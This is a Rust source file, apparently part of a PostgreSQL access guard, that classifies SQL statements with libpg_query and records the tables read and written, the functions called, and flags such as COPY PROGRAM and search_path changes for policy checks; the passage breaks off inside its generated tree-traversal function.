//! SQL statement classification with the real PostgreSQL parser (libpg_query through the
//! `pg_query` crate).
//!
//! A simple-query string is parsed **once**; each raw statement of the parse tree becomes one
//! [`SqlStatement`] whose text is cut from the input with the statement's location and length.
//! The tree is then walked completely (every node type, see `for_each_child`) to collect the
//! tables read and written, the functions called and the flags the guard and the Cedar policies
//! look at.
//!
//! Rules worth knowing when writing policies:
//! - A statement that contains a data-modifying statement (`WITH d AS (DELETE …) SELECT …`,
//!   `EXPLAIN ANALYZE DELETE …`, `PREPARE p AS DELETE …`) takes the modifying kind, picked in the
//!   order delete > update > merge > insert. DDL and COPY keep their kind, but the modified
//!   tables are still listed in `tables_written`.
//! - `has_where` is true for UPDATE/DELETE only when *every* UPDATE and DELETE of the statement
//!   (including those in CTEs) has a WHERE clause; MERGE always has its ON condition. For a plain
//!   SELECT it tells whether the top-level query has a WHERE clause.
//! - Unqualified table names are qualified with `public` (the default `search_path`); statements
//!   that change the search path are flagged with `sets_search_path`.
//! - `EXECUTE name` is `unknown` with command `ExecuteStmt:<name>`: the caller resolves the
//!   prepared statement (classified when it was prepared, see `PrepareStmt`).
//! - Anything that does not parse, or that the walk cannot fully analyse, is `unknown`.

use std::collections::{BTreeSet, HashSet};
use std::num::NonZeroUsize;
use std::sync::{Arc, Mutex};

use gatehouse_core::{SqlStatement, StatementKind};
use lru::LruCache;
use pg_query::protobuf::{self, Node, RangeVar};
use pg_query::{NodeEnum, NodeRef};

/// Upper bound on the recursion depth of the tree walk. The protobuf decoder already refuses
/// very deep trees, this is a second fence so that the walk can never exhaust the stack.
const MAX_WALK_DEPTH: usize = 1_000;

/// Statements longer than this are classified but not kept in a [`ClassifyCache`], so that the
/// cache's memory stays bounded by `capacity * MAX_CACHED_TEXT_LEN` (times a small factor).
pub const MAX_CACHED_TEXT_LEN: usize = 16 * 1024;

/// The schema unqualified names are assumed to live in.
const DEFAULT_SCHEMA: &str = "public";

/// Command tag of a statement that did not parse.
const PARSE_ERROR_COMMAND: &str = "ParseError";

/// Split a (possibly multi-statement) simple-query string and classify each statement.
///
/// Never fails: a parse failure yields a single statement of kind `Unknown` with `parse_error`
/// set and `text` holding the whole input. An empty or comment-only string yields an empty
/// `Vec`.
pub fn classify(sql: &str) -> Vec<SqlStatement> {
    let parsed = match parse(sql) {
        Ok(parsed) => parsed,
        Err(error) => return vec![unparsable(sql, error)],
    };
    parsed
        .protobuf
        .stmts
        .iter()
        .map(|raw| classify_raw(raw, statement_text(sql, raw)))
        .collect()
}

/// Classify exactly one statement (extended-protocol Parse).
///
/// The text must hold at most one statement: more than one yields `Unknown` with `parse_error`
/// "multiple statements"; an empty (or comment-only) text yields kind `Utility` with command
/// `EmptyQuery`.
pub fn classify_one(sql: &str) -> SqlStatement {
    let parsed = match parse(sql) {
        Ok(parsed) => parsed,
        Err(error) => return unparsable(sql, error),
    };
    match parsed.protobuf.stmts.as_slice() {
        [] => SqlStatement {
            text: sql.trim().to_owned(),
            kind: Some(StatementKind::Utility),
            command: "EmptyQuery".to_owned(),
            ..SqlStatement::default()
        },
        [raw] => classify_raw(raw, statement_text(sql, raw)),
        _ => unparsable(sql, "multiple statements".to_owned()),
    }
}

/// A bounded, thread-safe cache of [`classify_one`] results keyed by statement text, so that the
/// extended-protocol Parse of a text seen before is not parsed again.
pub struct ClassifyCache {
    entries: Mutex<LruCache<String, Arc<SqlStatement>>>,
}

impl ClassifyCache {
    /// A cache holding at most `capacity` statements (at least one).
    pub fn new(capacity: usize) -> Self {
        let capacity = NonZeroUsize::new(capacity).unwrap_or(NonZeroUsize::MIN);
        Self {
            entries: Mutex::new(LruCache::new(capacity)),
        }
    }

    /// [`classify_one`], answered from the cache when the same text was classified before.
    /// Parsing happens outside the lock; texts longer than [`MAX_CACHED_TEXT_LEN`] are not kept.
    pub fn classify_one(&self, sql: &str) -> Arc<SqlStatement> {
        if let Some(hit) = self.lock().get(sql) {
            return Arc::clone(hit);
        }
        let classified = Arc::new(classify_one(sql));
        if sql.len() <= MAX_CACHED_TEXT_LEN {
            let mut entries = self.lock();
            // Another thread may have classified the same text meanwhile: keep the first, so
            // that every caller gets the same `Arc`.
            if let Some(existing) = entries.get(sql) {
                return Arc::clone(existing);
            }
            entries.put(sql.to_owned(), Arc::clone(&classified));
        }
        classified
    }

    /// Number of cached statements.
    pub fn len(&self) -> usize {
        self.lock().len()
    }

    /// Whether the cache is empty.
    pub fn is_empty(&self) -> bool {
        self.lock().is_empty()
    }

    fn lock(&self) -> std::sync::MutexGuard<'_, LruCache<String, Arc<SqlStatement>>> {
        // Nothing panics while the lock is held; should it ever be poisoned, the cache content
        // is still consistent (every entry is a complete value), so keep using it.
        self.entries
            .lock()
            .unwrap_or_else(std::sync::PoisonError::into_inner)
    }
}

impl std::fmt::Debug for ClassifyCache {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("ClassifyCache")
            .field("len", &self.len())
            .finish_non_exhaustive()
    }
}

/// Parse with libpg_query. A panic inside `pg_query` (its result post-processing indexes and
/// casts) must not take the session down: it becomes a parse error.
fn parse(sql: &str) -> Result<pg_query::ParseResult, String> {
    match std::panic::catch_unwind(|| pg_query::parse(sql, pg_query::ParserOptions::DEFAULT)) {
        Ok(Ok(parsed)) => Ok(parsed),
        Ok(Err(pg_query::Error::Parse(message))) => Err(message),
        Ok(Err(pg_query::Error::Conversion(_))) => Err("statement contains a NUL byte".to_owned()),
        Ok(Err(pg_query::Error::Decode(_))) => {
            Err("statement is nested too deeply to be analysed".to_owned())
        }
        Ok(Err(other)) => Err(other.to_string()),
        Err(_) => Err("internal parser error".to_owned()),
    }
}

fn unparsable(sql: &str, error: String) -> SqlStatement {
    SqlStatement {
        text: sql.to_owned(),
        kind: Some(StatementKind::Unknown),
        command: PARSE_ERROR_COMMAND.to_owned(),
        parse_error: Some(error),
        ..SqlStatement::default()
    }
}

/// The text of one raw statement: `stmt_location`/`stmt_len` are byte offsets into the input
/// (`stmt_len == 0` means "to the end"). Surrounding whitespace and a trailing `;` are dropped.
fn statement_text<'s>(sql: &'s str, raw: &protobuf::RawStmt) -> &'s str {
    let start = usize::try_from(raw.stmt_location).unwrap_or(0);
    let len = usize::try_from(raw.stmt_len).unwrap_or(0);
    let slice = if len == 0 {
        sql.get(start..)
    } else {
        start.checked_add(len).and_then(|end| sql.get(start..end))
    };
    let text = slice.unwrap_or(sql).trim();
    text.strip_suffix(';').map_or(text, str::trim_end)
}

fn classify_raw(raw: &protobuf::RawStmt, text: &str) -> SqlStatement {
    let Some(node) = raw.stmt.as_deref().and_then(|n| n.node.as_ref()) else {
        return unparsable(text, "empty statement node".to_owned());
    };
    let mut walker = Walker::default();
    let verdict = classify_node(node, &mut walker);
    walker.finish(text, verdict)
}

/// What [`classify_node`] decided about the statement itself; the walker holds the rest.
struct Classified {
    kind: StatementKind,
    command: String,
    has_where: bool,
}

impl Classified {
    fn new(kind: StatementKind, command: impl Into<String>) -> Self {
        Self {
            kind,
            command: command.into(),
            has_where: false,
        }
    }
}

/// Classify one statement node, walking it with `w` (exactly once).
fn classify_node<'a>(node: &'a NodeEnum, w: &mut Walker<'a>) -> Classified {
    use StatementKind as K;
    let command = node_name(node);
    match node {
        NodeEnum::SelectStmt(s) => {
            w.walk(node.to_ref());
            if s.into_clause.is_some() {
                // SELECT … INTO creates a table.
                Classified::new(K::Ddl, command)
            } else if let Some((kind, has_where)) = w.modifying() {
                Classified {
                    kind,
                    command: command.to_owned(),
                    has_where,
                }
            } else {
                Classified {
                    kind: K::Select,
                    command: command.to_owned(),
                    has_where: s.where_clause.is_some(),
                }
            }
        }
        NodeEnum::InsertStmt(_)
        | NodeEnum::UpdateStmt(_)
        | NodeEnum::DeleteStmt(_)
        | NodeEnum::MergeStmt(_) => {
            w.walk(node.to_ref());
            let (kind, has_where) = w.modifying().unwrap_or((K::Unknown, false));
            Classified {
                kind,
                command: command.to_owned(),
                has_where,
            }
        }
        NodeEnum::ExplainStmt(e) => {
            let inner = e.query.as_deref().and_then(|n| n.node.as_ref());
            match inner {
                Some(inner) if explain_analyzes(e) => {
                    // EXPLAIN ANALYZE runs the statement: it is what it explains.
                    let mut classified = classify_node(inner, w);
                    if !matches!(inner, NodeEnum::ExecuteStmt(_)) {
                        classified.command = command.to_owned();
                    }
                    classified
                }
                _ => {
                    w.walk(node.to_ref());
                    // Planning only: nothing is written.
                    w.demote_writes();
                    Classified::new(K::Utility, command)
                }
            }
        }
        NodeEnum::PrepareStmt(p) => inner_statement(p.query.as_deref(), command, w),
        NodeEnum::DeclareCursorStmt(d) => inner_statement(d.query.as_deref(), command, w),
        NodeEnum::ExecuteStmt(e) => {
            // Parameters may call functions.
            w.walk(node.to_ref());
            Classified::new(K::Unknown, format!("ExecuteStmt:{}", e.name))
        }
        NodeEnum::CopyStmt(c) => {
            w.walk(node.to_ref());
            w.copy_program = c.is_program;
            w.copy_server_file = !c.is_program && !c.filename.is_empty();
            let has_where = match w.modifying() {
                Some((_, has_where)) => has_where,
                None => c.where_clause.is_some(),
            };
            Classified {
                kind: K::Copy,
                command: command.to_owned(),
                has_where,
            }
        }
        _ => {
            w.walk(node.to_ref());
            Classified::new(base_kind(node), command)
        }
    }
}

/// PREPARE and DECLARE CURSOR are classified as the statement they hold.
fn inner_statement<'a>(query: Option<&'a Node>, command: &str, w: &mut Walker<'a>) -> Classified {
    match query.and_then(|n| n.node.as_ref()) {
        Some(inner) => {
            let mut classified = classify_node(inner, w);
            classified.command = command.to_owned();
            classified
        }
        None => Classified::new(StatementKind::Unknown, command),
    }
}

/// `SET [SESSION|LOCAL] ROLE r` and `SET SESSION AUTHORIZATION u` (but not their `RESET` /
/// `DEFAULT` forms, which return to the login role).
fn assumes_role(s: &protobuf::VariableSetStmt) -> bool {
    (s.name.eq_ignore_ascii_case("role") || s.name.eq_ignore_ascii_case("session_authorization"))
        && s.kind == protobuf::VariableSetKind::VarSetValue as i32
}

/// Whether an EXPLAIN executes its statement (`ANALYZE`, `(ANALYZE)`, `(ANALYZE true)`, …).
fn explain_analyzes(e: &protobuf::ExplainStmt) -> bool {
    e.options.iter().any(|option| match &option.node {
        Some(NodeEnum::DefElem(d)) if d.defname.eq_ignore_ascii_case("analyze") => {
            match d.arg.as_deref().and_then(|a| a.node.as_ref()) {
                None => true,
                Some(NodeEnum::String(s)) => !is_false_word(&s.sval),
                Some(NodeEnum::Boolean(b)) => b.boolval,
                Some(NodeEnum::Integer(i)) => i.ival != 0,
                Some(NodeEnum::AConst(c)) => match &c.val {
                    Some(protobuf::a_const::Val::Sval(s)) => !is_false_word(&s.sval),
                    Some(protobuf::a_const::Val::Boolval(b)) => b.boolval,
                    Some(protobuf::a_const::Val::Ival(i)) => i.ival != 0,
                    _ => true,
                },
                // Anything else: assume it runs (fail towards the stricter classification).
                Some(_) => true,
            }
        }
        _ => false,
    })
}

/// PostgreSQL's spellings of a false boolean option (`parse_bool`, prefixes included).
fn is_false_word(word: &str) -> bool {
    let word = word.trim().to_ascii_lowercase();
    matches!(
        word.as_str(),
        "f" | "fa" | "fal" | "fals" | "false" | "n" | "no" | "off" | "of" | "0"
    )
}

/// The kind of statements that need no special treatment.
fn base_kind(node: &NodeEnum) -> StatementKind {
    use NodeEnum as N;
    use StatementKind as K;
    match node {
        N::SelectStmt(_) => K::Select,
        N::InsertStmt(_) => K::Insert,
        N::UpdateStmt(_) => K::Update,
        N::DeleteStmt(_) => K::Delete,
        N::MergeStmt(_) => K::Merge,
        N::CopyStmt(_) => K::Copy,

        N::GrantStmt(_)
        | N::GrantRoleStmt(_)
        | N::CreateRoleStmt(_)
        | N::AlterRoleStmt(_)
        | N::AlterRoleSetStmt(_)
        | N::DropRoleStmt(_)
        | N::AlterDefaultPrivilegesStmt(_)
        | N::ReassignOwnedStmt(_)
        | N::DropOwnedStmt(_) => K::Dcl,

        N::TransactionStmt(_) => K::Transaction,

        // Assuming another role changes whose privileges every later statement runs with: a
        // privilege change, not a setting.
        N::VariableSetStmt(s) if assumes_role(s) => K::Dcl,
        N::VariableSetStmt(_) | N::VariableShowStmt(_) | N::DiscardStmt(_) | N::ConstraintsSetStmt(_) => {
            K::Set
        }

        N::ExplainStmt(_)
        | N::VacuumStmt(_)
        | N::ClusterStmt(_)
        | N::ReindexStmt(_)
        | N::ListenStmt(_)
        | N::NotifyStmt(_)
        | N::UnlistenStmt(_)
        | N::CheckPointStmt(_)
        | N::FetchStmt(_)
        | N::ClosePortalStmt(_)
        | N::CallStmt(_)
        | N::LockStmt(_)
        | N::DeallocateStmt(_) => K::Utility,

        N::AlterTableStmt(_)
        | N::AlterDomainStmt(_)
        | N::CreateStmt(_)
        | N::DefineStmt(_)
        | N::DropStmt(_)
        | N::TruncateStmt(_)
        | N::CommentStmt(_)
        | N::IndexStmt(_)
        | N::CreateFunctionStmt(_)
        | N::AlterFunctionStmt(_)
        | N::RenameStmt(_)
        | N::RuleStmt(_)
        | N::ViewStmt(_)
        | N::CreateDomainStmt(_)
        | N::CreatedbStmt(_)
        | N::DropdbStmt(_)
        | N::CreateTableAsStmt(_)
        | N::CreateSeqStmt(_)
        | N::AlterSeqStmt(_)
        | N::CreateTrigStmt(_)
        | N::CreatePlangStmt(_)
        | N::CreateSchemaStmt(_)
        | N::AlterDatabaseStmt(_)
        | N::AlterDatabaseSetStmt(_)
        | N::AlterDatabaseRefreshCollStmt(_)
        | N::CreateConversionStmt(_)
        | N::CreateCastStmt(_)
        | N::CreateOpClassStmt(_)
        | N::CreateOpFamilyStmt(_)
        | N::AlterOpFamilyStmt(_)
        | N::CreateTableSpaceStmt(_)
        | N::DropTableSpaceStmt(_)
        | N::AlterObjectDependsStmt(_)
        | N::AlterObjectSchemaStmt(_)
        | N::AlterOwnerStmt(_)
        | N::AlterOperatorStmt(_)
        | N::AlterTypeStmt(_)
        | N::CompositeTypeStmt(_)
        | N::CreateEnumStmt(_)
        | N::CreateRangeStmt(_)
        | N::AlterEnumStmt(_)
        | N::AlterTsdictionaryStmt(_)
        | N::AlterTsconfigurationStmt(_)
        | N::CreateFdwStmt(_)
        | N::AlterFdwStmt(_)
        | N::CreateForeignServerStmt(_)
        | N::AlterForeignServerStmt(_)
        | N::CreateUserMappingStmt(_)
        | N::AlterUserMappingStmt(_)
        | N::DropUserMappingStmt(_)
        | N::AlterTableSpaceOptionsStmt(_)
        | N::AlterTableMoveAllStmt(_)
        | N::SecLabelStmt(_)
        | N::CreateForeignTableStmt(_)
        | N::ImportForeignSchemaStmt(_)
        | N::CreateExtensionStmt(_)
        | N::AlterExtensionStmt(_)
        | N::AlterExtensionContentsStmt(_)
        | N::CreateEventTrigStmt(_)
        | N::AlterEventTrigStmt(_)
        | N::RefreshMatViewStmt(_)
        | N::ReplicaIdentityStmt(_)
        | N::AlterSystemStmt(_)
        | N::CreatePolicyStmt(_)
        | N::AlterPolicyStmt(_)
        | N::CreateTransformStmt(_)
        | N::CreateAmStmt(_)
        | N::CreatePublicationStmt(_)
        | N::AlterPublicationStmt(_)
        | N::CreateSubscriptionStmt(_)
        | N::AlterSubscriptionStmt(_)
        | N::DropSubscriptionStmt(_)
        | N::CreateStatsStmt(_)
        | N::AlterStatsStmt(_)
        | N::AlterCollationStmt(_) => K::Ddl,

        // DO runs an opaque code block, LOAD loads a shared library, EXECUTE is resolved by the
        // caller; everything else is unrecognised.
        _ => K::Unknown,
    }
}

/// Data-modifying statements met during a walk.
#[derive(Debug, Clone, Copy)]
struct Dml {
    insert: bool,
    update: bool,
    delete: bool,
    merge: bool,
    /// Every UPDATE and DELETE seen had a WHERE clause.
    all_where: bool,
}

impl Default for Dml {
    fn default() -> Self {
        Self {
            insert: false,
            update: false,
            delete: false,
            merge: false,
            all_where: true,
        }
    }
}

/// Collects tables, functions and flags over a whole statement tree.
#[derive(Default)]
struct Walker<'a> {
    read: BTreeSet<String>,
    written: BTreeSet<String>,
    functions: BTreeSet<String>,
    columns: BTreeSet<String>,
    /// CTE names in scope, innermost last.
    ctes: Vec<&'a str>,
    /// Relations already recorded as written (DML/DDL targets): not reads, never CTE names.
    targets: HashSet<*const RangeVar>,
    dml: Dml,
    /// Inside `CREATE SCHEMA s CREATE TABLE t …` the objects created belong to `s`.
    creating_schema: Option<&'a str>,
    sets_search_path: bool,
    copy_program: bool,
    copy_server_file: bool,
    depth: usize,
    too_deep: bool,
}

impl<'a> Walker<'a> {
    /// The strongest data-modifying kind met (delete > update > merge > insert) and whether
    /// the statement is qualified.
    fn modifying(&self) -> Option<(StatementKind, bool)> {
        let d = self.dml;
        if d.delete {
            Some((StatementKind::Delete, d.all_where))
        } else if d.update {
            Some((StatementKind::Update, d.all_where))
        } else if d.merge {
            Some((StatementKind::Merge, d.all_where))
        } else if d.insert {
            Some((StatementKind::Insert, false))
        } else {
            None
        }
    }

    /// Move every written table to the read set (EXPLAIN without ANALYZE writes nothing).
    fn demote_writes(&mut self) {
        let written = std::mem::take(&mut self.written);
        self.read.extend(written);
    }

    fn finish(self, text: &str, verdict: Classified) -> SqlStatement {
        let (kind, parse_error) = if self.too_deep {
            (
                StatementKind::Unknown,
                Some("statement is nested too deeply to be analysed".to_owned()),
            )
        } else {
            (verdict.kind, None)
        };
        SqlStatement {
            text: text.to_owned(),
            kind: Some(kind),
            command: verdict.command,
            tables_read: self.read.into_iter().collect(),
            tables_written: self.written.into_iter().collect(),
            has_where: verdict.has_where,
            functions: self.functions.into_iter().collect(),
            columns: self.columns.into_iter().collect(),
            copy_program: self.copy_program,
            copy_server_file: self.copy_server_file,
            sets_search_path: self.sets_search_path,
            parse_error,
            behind_views: Default::default(),
        }
    }

    fn walk(&mut self, node: NodeRef<'a>) {
        if self.depth >= MAX_WALK_DEPTH {
            self.too_deep = true;
            return;
        }
        self.depth += 1;
        if let NodeRef::WithClause(with) = node {
            // The names stay in scope until the statement owning the WITH is done (the
            // generated child order visits `with_clause` before any other field).
            self.with_clause(with);
            self.depth -= 1;
            return;
        }
        let cte_mark = self.ctes.len();
        self.visit(node);
        self.ctes.truncate(cte_mark);
        self.depth -= 1;
    }

    fn children(&mut self, node: NodeRef<'a>) {
        for_each_child(node, &mut |child| self.walk(child));
    }

    fn visit(&mut self, node: NodeRef<'a>) {
        match node {
            NodeRef::RangeVar(rv) => {
                self.range_var(rv);
                return;
            }
            NodeRef::FuncCall(call) => self.func_call(call),
            NodeRef::ColumnRef(c) => self.column_ref(c),
            NodeRef::InsertStmt(s) => {
                self.dml.insert = true;
                self.target(s.relation.as_ref());
            }
            NodeRef::UpdateStmt(s) => {
                self.dml.update = true;
                self.dml.all_where &= s.where_clause.is_some();
                self.target(s.relation.as_ref());
            }
            NodeRef::DeleteStmt(s) => {
                self.dml.delete = true;
                self.dml.all_where &= s.where_clause.is_some();
                self.target(s.relation.as_ref());
            }
            NodeRef::MergeStmt(s) => {
                self.dml.merge = true;
                self.target(s.relation.as_ref());
            }
            // SELECT … INTO and CREATE TABLE … AS / CREATE MATERIALIZED VIEW.
            NodeRef::IntoClause(into) => self.target(into.rel.as_ref()),
            NodeRef::CopyStmt(s) if s.is_from => self.target(s.relation.as_ref()),
            NodeRef::CreateStmt(s) => self.target(s.relation.as_ref()),
            NodeRef::ViewStmt(s) => self.target(s.view.as_ref()),
            NodeRef::AlterTableStmt(s) => self.target(s.relation.as_ref()),
            NodeRef::IndexStmt(s) => self.target(s.relation.as_ref()),
            NodeRef::CreateTrigStmt(s) => self.target(s.relation.as_ref()),
            NodeRef::RuleStmt(s) => self.target(s.relation.as_ref()),
            NodeRef::RenameStmt(s) => {
                self.target(s.relation.as_ref());
                if is_relation_type(s.rename_type) {
                    self.renamed(s.relation.as_ref(), None, &s.newname);
                }
            }
            NodeRef::RefreshMatViewStmt(s) => self.target(s.relation.as_ref()),
            NodeRef::AlterObjectSchemaStmt(s) => {
                self.target(s.relation.as_ref());
                if let Some(rv) = s.relation.as_ref()
                    && !s.newschema.is_empty()
                {
                    self.renamed(Some(rv), Some(&s.newschema), &rv.relname);
                }
            }
            NodeRef::CreateSchemaStmt(s) => {
                let outer = self.creating_schema;
                if !s.schemaname.is_empty() {
                    self.creating_schema = Some(&s.schemaname);
                }
                self.children(node);
                self.creating_schema = outer;
                return;
            }
            NodeRef::AlterOwnerStmt(s) => self.target(s.relation.as_ref()),
            NodeRef::CreateSeqStmt(s) => self.target(s.sequence.as_ref()),
            NodeRef::AlterSeqStmt(s) => self.target(s.sequence.as_ref()),
            NodeRef::CreatePolicyStmt(s) => self.target(s.table.as_ref()),
            NodeRef::AlterPolicyStmt(s) => self.target(s.table.as_ref()),
            NodeRef::TruncateStmt(s) => self.target_nodes(&s.relations),
            // Privileges on tables change: the tables are written (their ACL).
            NodeRef::GrantStmt(s) => self.target_nodes(&s.objects),
            NodeRef::DropStmt(s) => self.drop_stmt(s),
            NodeRef::CommentStmt(s) => self.comment_stmt(s),
            NodeRef::VariableSetStmt(s)
                if s.name.eq_ignore_ascii_case("search_path")
                    || s.kind == protobuf::VariableSetKind::VarResetAll as i32 =>
            {
                self.sets_search_path = true;
            }
            NodeRef::DiscardStmt(s) if s.target == protobuf::DiscardMode::DiscardAll as i32 => {
                self.sets_search_path = true;
            }
            _ => {}
        }
        self.children(node);
    }

    fn with_clause(&mut self, with: &'a protobuf::WithClause) {
        let ctes = with.ctes.iter().filter_map(|n| match &n.node {
            Some(NodeEnum::CommonTableExpr(cte)) => Some(&**cte),
            _ => None,
        });
        if with.recursive {
            // WITH RECURSIVE: every name is visible in every query of the clause.
            for cte in ctes.clone() {
                self.ctes.push(&cte.ctename);
            }
            for cte in ctes {
                self.walk(NodeRef::CommonTableExpr(cte));
            }
        } else {
            // A plain WITH query sees only the CTEs before it: `WITH t AS (SELECT * FROM t)`
            // reads the table t.
            for cte in ctes {
                self.walk(NodeRef::CommonTableExpr(cte));
                self.ctes.push(&cte.ctename);
            }
        }
    }

    fn range_var(&mut self, rv: &'a RangeVar) {
        if self.targets.contains(&std::ptr::from_ref(rv)) {
            return;
        }
        if rv.schemaname.is_empty() && self.ctes.iter().any(|cte| *cte == rv.relname) {
            return;
        }
        self.read.insert(qualify(rv));
    }

    fn target(&mut self, rv: Option<&'a RangeVar>) {
        if let Some(rv) = rv {
            self.targets.insert(std::ptr::from_ref(rv));
            let name = match self.creating_schema {
                Some(schema) if rv.schemaname.is_empty() => format!("{schema}.{}", rv.relname),
                _ => qualify(rv),
            };
            self.written.insert(name);
        }
    }

    /// `ALTER TABLE a RENAME TO b` also writes `b`, `ALTER TABLE a SET SCHEMA s` writes `s.a`.
    fn renamed(&mut self, rv: Option<&RangeVar>, schema: Option<&str>, relname: &str) {
        if let Some(rv) = rv {
            if relname.is_empty() {
                return;
            }
            let schema = schema.unwrap_or(if rv.schemaname.is_empty() {
                DEFAULT_SCHEMA
            } else {
                rv.schemaname.as_str()
            });
            self.written.insert(format!("{schema}.{relname}"));
        }
    }

    fn target_nodes(&mut self, nodes: &'a [Node]) {
        for n in nodes {
            if let Some(NodeEnum::RangeVar(rv)) = &n.node {
                self.target(Some(rv));
            }
        }
    }

    fn drop_stmt(&mut self, s: &protobuf::DropStmt) {
        use protobuf::ObjectType as O;
        let drop_last = match O::try_from(s.remove_type) {
            _ if is_relation_type(s.remove_type) => false,
            // `DROP TRIGGER t ON tab`: the last name is the trigger's, the rest the table's.
            Ok(O::ObjectTrigger | O::ObjectRule | O::ObjectPolicy) => true,
            _ => return,
        };
        for object in &s.objects {
            if let Some(NodeEnum::List(list)) = &object.node
                && let Some(name) = qualify_names(&list.items, drop_last)
            {
                self.written.insert(name);
            }
        }
    }

    fn comment_stmt(&mut self, s: &protobuf::CommentStmt) {
        use protobuf::ObjectType as O;
        let drop_last = match O::try_from(s.objtype) {
            _ if is_relation_type(s.objtype) => false,
            Ok(
                O::ObjectColumn | O::ObjectTrigger | O::ObjectRule | O::ObjectPolicy | O::ObjectTabconstraint,
            ) => true,
            _ => return,
        };
        if let Some(NodeEnum::List(list)) = s.object.as_deref().and_then(|n| n.node.as_ref())
            && let Some(name) = qualify_names(&list.items, drop_last)
        {
            self.written.insert(name);
        }
    }

    /// The column a reference names (its last part; `*` for a star). A one-part reference
    /// may also be a whole-row reference to a table or alias.
    fn column_ref(&mut self, c: &protobuf::ColumnRef) {
        match c.fields.last().and_then(|n| n.node.as_ref()) {
            Some(NodeEnum::String(s)) => {
                self.columns.insert(s.sval.clone());
            }
            Some(NodeEnum::AStar(_)) => {
                self.columns.insert("*".to_owned());
            }
            _ => {}
        }
    }

    fn func_call(&mut self, call: &protobuf::FuncCall) {
        let mut name = String::new();
        for part in &call.funcname {
            if let Some(NodeEnum::String(s)) = &part.node {
                if !name.is_empty() {
                    name.push('.');
                }
                name.push_str(&s.sval);
            }
        }
        if is_set_config_search_path(call) {
            self.sets_search_path = true;
        }
        if !name.is_empty() {
            self.functions.insert(name);
        }
    }
}

/// Whether an object type names a relation that policies see as a table.
fn is_relation_type(objtype: i32) -> bool {
    use protobuf::ObjectType as O;
    matches!(
        O::try_from(objtype),
        Ok(O::ObjectTable | O::ObjectView | O::ObjectMatview | O::ObjectForeignTable | O::ObjectSequence)
    )
}

/// `set_config('search_path', …)` (any schema; case-insensitive setting name). When the setting
/// name is not a string constant we cannot tell, and assume it is the search path.
fn is_set_config_search_path(call: &protobuf::FuncCall) -> bool {
    let is_set_config = matches!(
        call.funcname.last().and_then(|n| n.node.as_ref()),
        Some(NodeEnum::String(s)) if s.sval == "set_config"
    );
    if !is_set_config {
        return false;
    }
    let Some(first) = call.args.first() else {
        return false;
    };
    match string_constant(first) {
        Some(setting) => setting.eq_ignore_ascii_case("search_path"),
        None => true,
    }
}

/// The value of a string literal, looking through casts (`'x'::text`).
fn string_constant(node: &Node) -> Option<&str> {
    match node.node.as_ref()? {
        NodeEnum::AConst(c) => match &c.val {
            Some(protobuf::a_const::Val::Sval(s)) => Some(&s.sval),
            _ => None,
        },
        NodeEnum::TypeCast(cast) => string_constant(cast.arg.as_deref()?),
        _ => None,
    }
}

/// `schema.relation` for a range variable; `public` when unqualified; the catalog (database)
/// part is dropped. Identifiers are already folded by the parser (quoted ones keep their case).
fn qualify(rv: &RangeVar) -> String {
    let schema = if rv.schemaname.is_empty() {
        DEFAULT_SCHEMA
    } else {
        rv.schemaname.as_str()
    };
    format!("{schema}.{}", rv.relname)
}

/// `schema.relation` from a list of name parts (`[catalog.]schema.relation` or `relation`),
/// optionally dropping a trailing object name (trigger, rule, policy, column).
fn qualify_names(items: &[Node], drop_last: bool) -> Option<String> {
    let mut parts: Vec<&str> = items
        .iter()
        .filter_map(|n| match &n.node {
            Some(NodeEnum::String(s)) => Some(s.sval.as_str()),
            _ => None,
        })
        .collect();
    if drop_last {
        parts.pop();
    }
    match parts.as_slice() {
        [] => None,
        [relation] => Some(format!("{DEFAULT_SCHEMA}.{relation}")),
        [.., schema, relation] => Some(format!("{schema}.{relation}")),
    }
}

// ---------------------------------------------------------------------------------------------
// Generic tree traversal.
//
// Generated from pg_query 18.1.0's `src/protobuf.rs`: for every node type, every field holding
// a node (`Node`, `Vec<Node>`, or a message type that is itself a node) is visited, with
// `with_clause` first so that CTE names are in scope before the rest of the statement is walked.
// Scalar fields, strings and `A_Const` values hold no nodes. Because the match is exhaustive,
// a pg_query upgrade that adds node types fails to compile here instead of silently skipping
// them; regenerate it then.
// ---------------------------------------------------------------------------------------------

fn visit_list<'a>(list: &'a [Node], f: &mut impl FnMut(NodeRef<'a>)) {
    for n in list {
        if let Some(e) = &n.node {
            f(e.to_ref());
        }
    }
}

fn visit_opt<'a>(n: Option<&'a Node>, f: &mut impl FnMut(NodeRef<'a>)) {
    if let Some(e) = n.and_then(|n| n.node.as_ref()) {
        f(e.to_ref());
    }
}

/// Call `f` on every direct child node of `node`.
fn for_each_child<'a>(node: NodeRef<'a>, f: &mut impl FnMut(NodeRef<'a>)) {
    match node {
        NodeRef::Alias(n) => {
            visit_list(&n.colnames, f);
        }
        NodeRef::RangeVar(n) => {
            if let Some(x) = &n.alias {
                f(NodeRef::Alias(x));
            }
        }
        NodeRef::TableFunc(n) => {
            visit_list(&n.ns_uris, f);
            visit_list(&n.ns_names, f);
            visit_opt(n.docexpr.as_deref(), f);
            visit_opt(n.rowexpr.as_deref(), f);
            visit_list(&n.colnames, f);
            visit_list(&n.coltypes, f);
            visit_list(&n.coltypmods, f);
            visit_list(&n.colcollations, f);
            visit_list(&n.colexprs, f);
            visit_list(&n.coldefexprs, f);
            visit_list(&n.colvalexprs, f);
            visit_list(&n.passingvalexprs, f);
            visit_opt(n.plan.as_deref(), f);
        }
        NodeRef::Var(n) => {
            visit_opt(n.xpr.as_deref(), f);
        }
        NodeRef::Param(n) => {
            visit_opt(n.xpr.as_deref(), f);
        }
        NodeRef::Aggref(n) => {
            visit_opt(n.xpr.as_deref(), f);
            visit_list(&n.aggargtypes, f);
            visit_list(&n.aggdirectargs, f);
            visit_list(&n.args, f);
            visit_list(&n.aggorder, f);
            visit_list(&n.aggdistinct, f);
            visit_opt(n.aggfilter.as_deref(), f);
        }
        NodeRef::GroupingFunc(n) => {
            visit_opt(n.xpr.as_deref(), f);
            visit_list(&n.args, f);
            visit_list(&n.refs, f);
        }
        NodeRef::WindowFunc(n) => {
            visit_opt(n.xpr.as_deref(), f);
            visit_list(&n.args, f);
            visit_opt(n.aggfilter.as_deref(), f);
            visit_list(&n.run_condition, f);
        }
        NodeRef::SubscriptingRef(n) => {
            visit_opt(n.xpr.as_deref(), f);
            visit_list(&n.refupperindexpr, f);
            visit_list(&n.reflowerindexpr, f);
            visit_opt(n.refexpr.as_deref(), f);
            visit_opt(n.refassgnexpr.as_deref(), f);
        }
        NodeRef::FuncExpr(n) => {
